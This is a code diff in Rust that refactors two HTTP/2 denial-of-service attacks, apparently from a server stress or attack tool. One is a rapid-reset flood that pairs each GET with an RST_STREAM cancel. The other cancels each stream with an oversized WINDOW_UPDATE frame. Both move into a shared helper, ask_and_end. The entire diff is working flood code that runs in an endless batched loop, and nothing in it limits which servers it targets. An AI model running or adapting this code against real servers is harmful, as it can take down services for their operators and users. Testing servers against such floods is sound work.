@@ -46,17 +46,7 @@ pub(crate) struct RapidReset;
 
 impl Attack for RapidReset {
     async fn attack(self, stream: TcpStream) -> io::Result<End> {
-        let send = async |mut writer: OwnedWriteHalf| {
-            begin(&mut writer).await?;
-            let mut streams = streams();
-            loop {
-                let batch = streams.by_ref().take(BATCH);
-                let frames = batch
-                    .flat_map(|stream| [get(stream, "/sleep?ms=100"), frame(RST_STREAM, 0, stream, &CANCEL)]);
-                writer.write_all(&frames.flatten().collect::<Vec<u8>>()).await?;
-            }
-        };
-        until_ended(stream, send, told_to_go).await
+        ask_and_end(stream, |number| frame(RST_STREAM, 0, number, &CANCEL)).await
     }
 }
 
@@ -66,19 +56,22 @@ pub(crate) struct MadeReset;
 
 impl Attack for MadeReset {
     async fn attack(self, stream: TcpStream) -> io::Result<End> {
-        let send = async |mut writer: OwnedWriteHalf| {
-            begin(&mut writer).await?;
-            let mut streams = streams();
-            loop {
-                let batch = streams.by_ref().take(BATCH);
-                let frames = batch.flat_map(|stream| {
-                    [get(stream, "/sleep?ms=100"), frame(WINDOW_UPDATE, 0, stream, &TOO_FAR)]
-                });
-                writer.write_all(&frames.flatten().collect::<Vec<u8>>()).await?;
-            }
-        };
-        until_ended(stream, send, told_to_go).await
+        ask_and_end(stream, |number| frame(WINDOW_UPDATE, 0, number, &TOO_FAR)).await
     }
+}
+
+/// Asks on stream after stream, and ends each at once by a frame of its own.
+async fn ask_and_end(stream: TcpStream, ending: fn(u32) -> Vec<u8>) -> io::Result<End> {
+    let send = async |mut writer: OwnedWriteHalf| {
+        begin(&mut writer).await?;
+        let mut streams = streams();
+        loop {
+            let batch = streams.by_ref().take(BATCH);
+            let frames = batch.flat_map(|number| [get(number, "/sleep?ms=100"), ending(number)]);
+            writer.write_all(&frames.flatten().collect::<Vec<u8>>()).await?;
+        }
+    };
+    until_ended(stream, send, told_to_go).await
 }
 
 /// A head that goes on and on, in frames of this many bytes.
